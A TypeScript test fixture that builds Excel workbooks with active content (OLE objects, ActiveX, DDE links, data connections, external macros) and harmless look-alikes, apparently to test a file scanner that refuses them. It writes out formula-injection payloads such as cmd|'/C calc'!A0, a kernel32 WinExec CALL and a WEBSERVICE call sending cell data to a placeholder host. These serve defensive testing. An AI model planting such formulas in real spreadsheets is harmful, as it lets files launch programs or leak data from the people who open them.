import {
  contentTypes,
  oneSheet,
  plainWorkbook,
  sheetXml,
  workbookLinks,
  workbookXml,
} from '#test/xlsx/plain-workbook.ts';
import { type HostileFile, sheetPart } from '#test/xlsx/hostile/hostile-file.ts';

const microsoft = 'http://schemas.microsoft.com/office';
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const drawingNamespace = 'http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing';
const sheetLinks = 'xl/worksheets/_rels/sheet1.xml.rels';
const drawingPart = 'xl/drawings/drawing1.xml';

type Parts = Readonly<Record<string, string>>;
type Link = readonly [id: string, type: string, target: string, more?: string];

const sheetLink: Link = ['rId1', 'worksheet', 'worksheets/sheet1.xml'];

/** The content types with that of one more part. */
const typesWith = (part: string, type: string): string =>
  contentTypes().replace('</Types>', `<Override PartName="/${part}" ContentType="${type}"/></Types>`);

/** Parts to which the sheet refers. */
const onSheet = (links: readonly Link[], parts: Parts = {}): Buffer =>
  plainWorkbook({ [sheetLinks]: workbookLinks(...links), ...parts });

/** Parts to which the workbook refers. */
const inWorkbook = (links: readonly Link[], parts: Parts = {}): Buffer =>
  plainWorkbook({ 'xl/_rels/workbook.xml.rels': workbookLinks(sheetLink, ...links), ...parts });

const inPackage = (type: string, target: string, parts: Parts): Buffer =>
  plainWorkbook({
    '_rels/.rels': workbookLinks(['rId1', 'officeDocument', 'xl/workbook.xml']).replace(
      '</Relationships>',
      `<Relationship Id="rId2" Type="${type}" Target="${target}"/></Relationships>`,
    ),
    ...parts,
  });

const external = ' TargetMode="External"';

const withExternalLink = (content: string, more: Parts = {}): Buffer =>
  inWorkbook([['rId2', 'externalLink', 'externalLinks/externalLink1.xml']], {
    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${main}">${content}</externalLink>`,
    ...more,
  });

const withConnections = (content: string): Buffer =>
  inWorkbook([['rId2', 'connections', 'connections.xml']], {
    'xl/connections.xml': `<connections xmlns="${main}">${content}</connections>`,
  });

const withDrawing = (macro: string): Buffer =>
  onSheet([['rId1', 'drawing', '/xl/drawings/drawing1.xml']], {
    [drawingPart]: `<xdr:wsDr xmlns:xdr="${drawingNamespace}"><xdr:twoCellAnchor><xdr:sp macro="${macro}"/></xdr:twoCellAnchor></xdr:wsDr>`,
  });

const formulaCell = (formula: string): Buffer =>
  plainWorkbook({ [sheetPart]: sheetXml(`<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`) });

const behindSheet = (content: string): Buffer => plainWorkbook({ [sheetPart]: sheetXml('', content) });

const objects: readonly (readonly [name: string, make: () => Buffer])[] = [
  [
    'an embedded object',
    () => onSheet([['rId1', 'oleObject', '../embeddings/oleObject1.bin']], { 'xl/embeddings/oleObject1.bin': 'x' }),
  ],
  [
    'an embedded package',
    () => onSheet([['rId1', 'package', '../other/Letter.docx']], { 'xl/other/Letter.docx': 'x' }),
  ],
  ['an embedded file that nothing refers to', () => plainWorkbook({ 'xl/embeddings/Letter.docx': 'x' })],
  ['an object elsewhere', () => onSheet([['rId1', 'oleObject', 'file:///x.bin', external]])],
  [
    'an object that is only known by its type',
    () =>
      plainWorkbook({
        '[Content_Types].xml': typesWith('xl/x.bin', 'application/vnd.openxmlformats-officedocument.oleObject'),
        'xl/x.bin': 'x',
      }),
  ],
  [
    'an ActiveX control',
    () => onSheet([['rId1', 'control', '../activeX/activeX1.xml']], { 'xl/activeX/activeX1.xml': '<x/>' }),
  ],
  [
    'an ActiveX control under another name',
    () => onSheet([['rId1', 'control', '../other/one.xml']], { 'xl/other/one.xml': '<x/>' }),
  ],
  [
    'a ribbon of its own',
    () =>
      inPackage(`${microsoft}/2006/relationships/ui/extensibility`, 'customUI/customUI.xml', {
        'customUI/customUI.xml': '<customUI/>',
      }),
  ],
  [
    'a ribbon of its own under another name',
    () => inPackage(`${microsoft}/2007/relationships/ui/extensibility`, 'other.xml', { 'other.xml': '<customUI/>' }),
  ],
  [
    'a web add-in',
    () =>
      inPackage(`${microsoft}/2011/relationships/webextensiontaskpanes`, 'xl/panes.xml', { 'xl/panes.xml': '<x/>' }),
  ],
];

const links: readonly (readonly [name: string, make: () => Buffer])[] = [
  ['a link to a program (DDE)', () => withExternalLink('<ddeLink ddeService="cmd" ddeTopic="/C calc"/>')],
  [
    'a link to a program in a part with a prefix',
    () =>
      inWorkbook([['rId2', 'externalLink', 'e.xml']], {
        'xl/e.xml': `<x:externalLink xmlns:x="${main}"><x:ddeLink ddeService="cmd" ddeTopic="/C calc"/></x:externalLink>`,
      }),
  ],
  ['a link to an object in another file (OLE)', () => withExternalLink('<oleLink progId="Word.Document"/>')],
  [
    'a connection to a website',
    () =>
      withConnections(
        '<connection id="1" type="4" refreshOnLoad="1"><webPr url="http://example.invalid/"/></connection>',
      ),
  ],
  [
    'a connection to a website that says it is a text file',
    () => withConnections('<connection id="1" type="6"><webPr url="http://example.invalid/"/></connection>'),
  ],
  [
    'a connection to a database',
    () => withConnections('<connection id="1" type="1"><dbPr connection="DSN=x" command="select 1"/></connection>'),
  ],
  ['a query', () => withConnections('<connection id="1" type="5"/>')],
  ['a text file that is read on opening', () => withConnections('<connection id="1" type="6" refreshOnLoad="true"/>')],
  [
    'a table that asks on opening',
    () =>
      onSheet([['rId1', 'queryTable', '../queryTables/queryTable1.xml']], {
        'xl/queryTables/queryTable1.xml': `<queryTable xmlns="${main}" refreshOnLoad="1"/>`,
      }),
  ],
];

const buttons: readonly (readonly [name: string, make: () => Buffer])[] = [
  ['a shape with a macro in another file', () => withDrawing("'C:\\x.xlsm'!Run")],
  ['a shape with a macro in a linked file', () => withDrawing('&#91;1]!Run')],
  [
    'a button with a macro in another file',
    () =>
      onSheet([['rId1', 'vmlDrawing', '/xl/drawings/vml1.vml']], {
        'xl/drawings/vml1.vml': '<xml><br><x:FmlaMacro>[1]!Run</x:FmlaMacro></xml>',
      }),
  ],
  [
    'a control with a macro in another file',
    () => behindSheet('<controls><control><controlPr macro="[1]!Run"/></control></controls>'),
  ],
];

const formulas: readonly (readonly [name: string, make: () => Buffer])[] = [
  ['a formula that asks a website', () => formulaCell('_xlfn.WEBSERVICE("http://example.invalid/"&amp;A2)')],
  ['a formula that asks a website, in pieces', () => formulaCell('WEB<!-- -->SER&#86;ICE ("http://example.invalid/")')],
  ['a formula that asks a program', () => formulaCell('1+RTD("x.y",,"z")')],
  ['a formula that starts a program', () => formulaCell("cmd|'/C calc'!A0")],
  ['a formula that starts a program by a function', () => formulaCell('DDE("cmd";"/C calc";"x")')],
  ['a formula that calls code', () => formulaCell('CALL("kernel32","WinExec","JCJ","calc",0)')],
  [
    'a name with such a formula',
    () =>
      plainWorkbook({
        'xl/workbook.xml': workbookXml(
          oneSheet,
          '<definedNames><definedName name="x">cmd|\'/C calc\'!A0</definedName></definedNames>',
        ),
      }),
  ],
  [
    'a condition with such a formula',
    () =>
      behindSheet(
        '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>',
      ),
  ],
  [
    'a list of choices with such a formula',
    () =>
      behindSheet(
        '<dataValidations><dataValidation sqref="A1"><formula1>WEBSERVICE(A1)</formula1></dataValidation></dataValidations>',
      ),
  ],
];

/** What looks like it and is harmless. */
const harmless: readonly (readonly [name: string, make: () => Buffer])[] = [
  ['a hyperlink to a file', () => onSheet([['rId1', 'hyperlink', 'file:///C:/x.exe', external]])],
  ['a hyperlink with a script', () => onSheet([['rId1', 'hyperlink', 'javascript:alert(1)', external]])],
  [
    'a link to another workbook',
    () =>
      withExternalLink('<externalBook r:id="rId1" xmlns:r="x"/>', {
        'xl/externalLinks/_rels/externalLink1.xml.rels': workbookLinks([
          'rId1',
          'externalLinkPath',
          'file:///x.xlsx',
          external,
        ]),
      }),
  ],
  [
    'a text file that was read in once',
    () => withConnections('<connection id="1" type="6"><textPr sourceFile="x.csv"/></connection>'),
  ],
  ['the list of connections of a file without any', () => withConnections('')],
  ['a shape with a macro that was left behind', () => withDrawing('[0]!Knop1_Klikken')],
  ['a shape without a macro', () => withDrawing('')],
  [
    'texts and names that look like calls',
    () => formulaCell('IF(A2="call(x|y)",\'a|b (RTD(\'!A1,Tabel1[DDE(|])+RECALL(1)'),
  ],
];

const refused = (
  list: readonly (readonly [name: string, make: () => Buffer])[],
  code: HostileFile['code'],
): readonly HostileFile[] => list.map(([name, make]) => ({ name, code, make }));

/** Workbooks that do more than hold values, one for each kind, and those that only look like it. */
export const activeContent: readonly HostileFile[] = [
  ...refused([...objects, ...links, ...buttons, ...formulas], 'FILE_ACTIVE'),
  {
    name: 'a sheet of old macros that is no sheet of the workbook',
    code: 'FILE_MACROS',
    make: () =>
      inWorkbook([['rId2', 'xlMacrosheet', 'macrosheets/sheet1.xml']], { 'xl/macrosheets/sheet1.xml': '<x/>' }),
  },
  {
    name: 'a sheet of old macros by its type',
    code: 'FILE_MACROS',
    make: () =>
      plainWorkbook({ '[Content_Types].xml': typesWith(sheetPart, 'application/vnd.ms-excel.macrosheet+xml') }),
  },
  ...refused(harmless, null),
];
